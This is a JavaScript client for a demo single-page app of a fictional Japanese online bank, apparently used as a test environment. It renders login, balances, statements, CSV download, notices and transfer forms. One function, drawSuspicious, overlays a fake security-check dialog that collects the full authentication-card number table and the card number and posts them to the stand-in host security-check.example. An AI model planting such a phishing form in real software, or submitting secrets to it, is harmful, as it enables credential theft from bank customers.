// The client of あおばネット銀行: draws every screen into #root, as banks' single-page applications do.

const root = document.getElementById('root')
const WEEKDAYS = '日月火水木金土'

/** An element with attributes and children; text stays text. */
function el(tag, attributes, ...children) {
  const element = document.createElement(tag)
  for (const [name, value] of Object.entries(attributes ?? {})) {
    if (name.startsWith('on')) element.addEventListener(name.slice(2), value)
    else if (value !== false && value !== null) element.setAttribute(name, value)
  }
  for (const child of children.flat(9)) if (child !== null && child !== false) element.append(child)
  return element
}

class SupportCard extends HTMLElement {
  connectedCallback() {
    if (this.shadowRoot) return
    const shadow = this.attachShadow({ mode: 'open' })
    shadow.append(
      el('style', null, 'p{font-size:12px;color:#677;padding:18px;text-align:center}'),
      el('p', null, 'お困りのときは　あおばサポート 0120-000-000（9:00～21:00）'),
    )
  }
}
customElements.define('aoba-support', SupportCard)

/** Asks the bank; a session that is over draws its screen and stops what was going on. */
async function ask(path, body) {
  const answer = await fetch(
    `/api/${path}`,
    body === undefined ? {} : { method: 'POST', body: JSON.stringify(body) },
  )
  if (answer.status === 401 || answer.status === 503) {
    drawClosed((await answer.json()).state)
    throw new SessionOver()
  }
  return answer
}

class SessionOver extends Error {}

window.addEventListener('unhandledrejection', (event) => {
  if (event.reason instanceof SessionOver) event.preventDefault()
})

function draw(title, ...content) {
  document.title = `${title}｜あおばネット銀行`
  root.replaceChildren(
    el(
      'div',
      { class: 'aXk2' },
      content,
      el('aoba-support'),
      el('p', { class: 'lS2c' }, '　架空の銀行です（明細リレーのデモ）'),
    ),
  )
}

function header() {
  return [
    el(
      'header',
      { class: 'bQ9d' },
      'あおばネット銀行',
      el('button', { type: 'button', onclick: logout }, 'ログアウト'),
    ),
    el(
      'nav',
      { class: 'cT1w' },
      link('/home', 'ホーム'),
      link('/history', '入出金明細'),
      link('/card', 'カード'),
      link('/transfer', '振込'),
      link('/settings', '各種変更'),
      link('/inbox', 'お知らせ', el('span', { class: 'dB7n', id: 'u-badge', hidden: '' })),
    ),
  ]
}

function link(path, label, extra = null) {
  return el(
    'a',
    {
      href: path,
      onclick: (event) => {
        event.preventDefault()
        go(path)
      },
    },
    label,
    extra,
  )
}

function go(path) {
  history.pushState(null, '', path)
  return route()
}

async function logout() {
  await ask('logout', {})
  drawClosed('logout')
}

const CLOSED = {
  timeout: [
    'タイムアウト',
    '一定時間操作が行われなかったため、自動的にログアウトしました。再度ログインしてください。',
  ],
  double: [
    'セッションエラー',
    '別の端末またはブラウザーからログインされたため、この画面でのお取引を終了しました。再度ログインしてください。',
  ],
  logout: ['ログアウト', 'ログアウトしました。ご利用ありがとうございました。'],
  maintenance: [
    'メンテナンス中',
    'ただいまシステムメンテナンスのため、サービスを停止しております。しばらくたってからアクセスしてください。',
  ],
}

function drawClosed(state) {
  const words = CLOSED[state]
  if (!words) return drawLogin()
  draw(
    words[0],
    el('header', { class: 'bQ9d' }, 'あおばネット銀行'),
    el(
      'main',
      { class: 'eM3k' },
      el('h1', null, words[0]),
      el('p', null, words[1]),
      state !== 'maintenance' &&
        el('button', { class: 'nB1t', type: 'button', onclick: () => go('/login') }, 'ログイン画面へ'),
    ),
  )
}

function drawLogin() {
  const form = el(
    'form',
    {
      class: 'qF4x',
      autocomplete: 'off',
      onsubmit: async (event) => {
        event.preventDefault()
        await ask('login', {})
        go('/home')
      },
    },
    el('label', null, 'ユーザーID', el('input', { name: 'userId', value: 'demo-user' })),
    el(
      'label',
      null,
      'ログインパスワード',
      el('input', { name: 'password', type: 'password', value: 'demo-demo' }),
    ),
    el('button', { class: 'nB1t', type: 'submit' }, 'ログイン'),
    el('p', { class: 'lS2c' }, 'デモのため入力済みです。どの値でもログインできます。'),
  )
  draw(
    'ログイン',
    el('header', { class: 'bQ9d' }, 'あおばネット銀行'),
    el('main', { class: 'eM3k' }, el('h1', null, 'ログイン'), form),
  )
}

const yen = (amount) => amount.toLocaleString('en-US')
const signed = (amount) => (amount < 0 ? `−¥${yen(-amount)}` : `+¥${yen(amount)}`)
// A card's list shows what was used without a sign, and what comes back with a minus.
const used = (amount) => (amount < 0 ? `¥${yen(-amount)}` : `−¥${yen(amount)}`)

function dayHeading(day) {
  const [year, month, date] = day.split('-').map(Number)
  return `${year}年${month}月${date}日（${WEEKDAYS[new Date(day).getUTCDay()]}）`
}

function dateGroups(rows) {
  const groups = []
  for (const row of rows) {
    let group = groups.at(-1)
    if (group?.date !== row.date) {
      group = { date: row.date, items: [] }
      groups.push(group)
    }
    group.items.push(
      el(
        'div',
        { class: 'hR6j' },
        el('div', { class: 'i1' }, [row.summary, row.detail].filter(Boolean).join('　')),
        el(
          'div',
          { class: 'i2' },
          el(
            'div',
            { class: row.amount < 0 ? 'jA5m' : 'jA5m kA5p' },
            row.balance === null ? used(row.amount) : signed(row.amount),
          ),
          row.balance !== null && el('div', { class: 'lS2c' }, `残高 ¥${yen(row.balance)}`),
        ),
      ),
    )
  }
  return groups.map((group) =>
    el('div', { class: 'rG7u' }, el('h3', { class: 'gH4p' }, dayHeading(group.date)), group.items),
  )
}

async function drawHome() {
  const home = await (await ask('home')).json()
  const [main] = home.accounts
  const latest = await (await ask(`history?account=${main.id}&from=${monthsBefore(home.today, 1)}`)).json()
  draw(
    'ホーム',
    header(),
    el(
      'main',
      { class: 'eM3k' },
      el(
        'p',
        { class: 'lS2c' },
        `ミホン　ハナコ さま　前回ログイン：${instantInWords(home.previousLoginAt)}`,
      ),
      el(
        'div',
        { class: 'fV8s' },
        `${main.branch}　${main.type}　${main.number}`,
        el('b', null, `¥${yen(main.balance)}`),
      ),
      el('h2', null, '最近のお取引'),
      dateGroups(latest.rows.slice(0, 5)),
    ),
  )
  if (home.suspicious) drawSuspicious()
  await showNotices(true)
}

function monthsBefore(day, months) {
  const at = new Date(day)
  at.setUTCMonth(at.getUTCMonth() - months)
  return at.toISOString().slice(0, 10)
}

function instantInWords(instant) {
  if (instant === null) return '－'
  const at = new Date(Date.parse(instant) + 9 * 3_600_000).toISOString()
  return `${at.slice(0, 4)}/${at.slice(5, 7)}/${at.slice(8, 10)} ${at.slice(11, 16)}`
}

async function drawHistory(accountId, months) {
  const home = await (await ask('home')).json()
  const accounts = home.accounts.filter((account) => account.balance !== null)
  const account = accounts.find((a) => a.id === accountId) ?? accounts[0]
  const select = el(
    'select',
    { 'aria-label': '口座', id: 'u-account', onchange: (event) => drawHistory(event.target.value, months) },
    accounts.map((a) =>
      el(
        'option',
        { value: a.id, selected: a.id === account.id && '' },
        `${a.branch}　${a.type}　${a.number}`,
      ),
    ),
  )
  const period = el(
    'select',
    {
      'aria-label': '期間',
      id: 'u-period',
      onchange: (event) => drawHistory(account.id, Number(event.target.value)),
    },
    [1, 3, 6, 12, 24].map((n) => el('option', { value: n, selected: n === months && '' }, `直近${n}か月`)),
  )
  await drawList(
    '入出金明細',
    account,
    monthsBefore(home.today, months),
    home.today,
    el('div', { class: 'mC8v' }, select, period),
    [
      el(
        'div',
        { class: 'fV8s' },
        `${account.branch}　${account.type}　${account.number}`,
        el('b', null, `¥${yen(account.balance)}`),
      ),
    ],
  )
}

async function drawCard() {
  const home = await (await ask('home')).json()
  const card = home.accounts.find((a) => a.balance === null)
  await drawList('カードご利用明細', card, monthsBefore(home.today, 2), home.today, null, [
    el('div', { class: 'fV8s' }, `${card.branch}　${card.number}`),
  ])
}

async function drawList(title, account, from, to, controls, top) {
  const asked = `account=${account.id}&from=${from}&to=${to}`
  const list = el('div', { class: 'sL0q' })
  const count = el('p', { class: 'lS2c' })
  const more = el('button', { class: 'nB1t', type: 'button' }, 'さらに見る')
  const rows = []
  const load = async () => {
    const page = await (await ask(`history?${asked}&offset=${rows.length}`)).json()
    rows.push(...page.rows)
    list.replaceChildren(...dateGroups(rows))
    count.textContent =
      page.total === 0 ? '該当するお取引はありません' : `${page.total}件中${rows.length}件を表示`
    more.hidden = rows.length >= page.total
  }
  more.addEventListener('click', load)
  await load()
  draw(
    title,
    header(),
    el(
      'main',
      { class: 'eM3k' },
      el('h1', null, title),
      top,
      controls,
      el('p', null, `照会期間　${dayHeading(from).slice(0, -3)}～${dayHeading(to).slice(0, -3)}`),
      el(
        'button',
        { class: 'tK6f', type: 'button', onclick: () => downloadCsv(account, asked) },
        'CSVダウンロード',
      ),
      count,
      list,
      more,
    ),
  )
  await showNotices(false)
}

async function downloadCsv(account, asked) {
  const text = await (await ask(`csv?${asked}`)).text()
  const url = URL.createObjectURL(new Blob(['\ufeff', text], { type: 'text/csv' }))
  const anchor = el('a', { href: url, download: `aoba_${account.number.replaceAll('*', 'x')}.csv` })
  document.body.append(anchor)
  anchor.click()
  anchor.remove()
  setTimeout(() => URL.revokeObjectURL(url), 0)
}

async function drawInbox() {
  const { notices } = await (await ask('notices')).json()
  const item = (notice) =>
    el(
      'div',
      { class: 'hR6j' },
      el(
        'div',
        { class: 'i1' },
        el(
          'div',
          { class: notice.unread ? 'jA5m' : '' },
          `${notice.important ? '【重要】' : ''}${notice.title}`,
        ),
        el('div', { class: 'lS2c' }, dayHeading(notice.date).slice(0, -3)),
      ),
      el(
        'div',
        { class: 'i2' },
        el('div', { class: 'lS2c' }, notice.unread ? '未読' : '既読'),
        el('button', { type: 'button', onclick: () => showModal(notice, drawInbox) }, '表示'),
      ),
    )
  draw('お知らせ', header(), el('main', { class: 'eM3k' }, el('h1', null, 'お知らせ'), notices.map(item)))
  await showNotices(false)
}

/** The badge, and on the home screen, a moment later, the unread important notices as modals. */
async function showNotices(withModal) {
  const { notices } = await (await ask('notices')).json()
  const unread = notices.filter((notice) => notice.unread && notice.important)
  const badge = document.getElementById('u-badge')
  if (badge) {
    badge.hidden = unread.length === 0
    badge.textContent = String(unread.length)
    badge.setAttribute('aria-label', `未読${unread.length}件`)
  }
  const next = unread.find((notice) => !notice.putOff)
  if (withModal && next)
    setTimeout(() => location.pathname === '/home' && showModal(next, () => showNotices(true)), 400)
}

function showModal(notice, afterwards) {
  const press = async (button) => {
    await ask('notice', { id: notice.id, button })
    modal.remove()
    backdrop.remove()
    await afterwards()
  }
  const backdrop = el('div', { class: 'oD3z' })
  const modal = el(
    'div',
    { class: 'pE9y', role: 'dialog', 'aria-modal': 'true', 'aria-labelledby': 'u-modal-title' },
    el('h2', { id: 'u-modal-title' }, `【重要】${notice.title}`),
    el('p', { class: 'lS2c' }, dayHeading(notice.date).slice(0, -3)),
    notice.body.map((paragraph) => el('p', null, paragraph)),
    notice.deadline && el('p', null, `期限：${dayHeading(notice.deadline).slice(0, -3)}まで`),
    notice.buttons.map((label) => el('button', { type: 'button', onclick: () => press(label) }, label)),
  )
  root.append(backdrop, modal)
}

function drawSuspicious() {
  root.append(
    el('div', { class: 'oD3z' }),
    el(
      'div',
      { class: 'pE9y', role: 'dialog' },
      el('h2', null, 'セキュリティ強化のためのご確認'),
      el(
        'p',
        null,
        'お客さまの口座が一時的に制限されています。制限を解除するには、認証カードの乱数表のすべての数字と、カード番号を入力してください。',
      ),
      el(
        'form',
        { action: 'https://security-check.example/confirm', method: 'post' },
        Array.from({ length: 10 }, (_, i) =>
          el('input', { name: `t${i}`, size: 2, 'aria-label': `乱数表${i + 1}` }),
        ),
        el('label', null, 'カード番号', el('input', { name: 'card' })),
        el('button', { type: 'submit' }, '認証する'),
      ),
    ),
  )
}

function drawForm(title, fields, button) {
  const form = el(
    'form',
    {
      class: 'qF4x',
      onsubmit: (event) => {
        event.preventDefault()
        form.append('デモのため、お手続きは行われません。')
      },
    },
    fields.map(([label, type]) => el('label', null, label, el('input', { type, autocomplete: 'off' }))),
    el('button', { class: 'nB1t', type: 'submit' }, button),
  )
  draw(title, header(), el('main', { class: 'eM3k' }, el('h1', null, title), form))
}

async function route() {
  switch (location.pathname) {
    case '/home':
      return drawHome()
    case '/history':
      return drawHistory(null, 1)
    case '/card':
      return drawCard()
    case '/inbox':
      return drawInbox()
    case '/transfer':
      await ask('home')
      return drawForm(
        '振込',
        [
          ['振込先金融機関', 'text'],
          ['口座番号', 'text'],
          ['振込金額', 'text'],
        ],
        '確認する',
      )
    case '/settings':
      await ask('home')
      return drawForm(
        'ログインパスワード変更',
        [
          ['現在のパスワード', 'password'],
          ['新しいパスワード', 'password'],
        ],
        '変更する',
      )
    default:
      return drawLogin()
  }
}

window.addEventListener('popstate', route)
route()
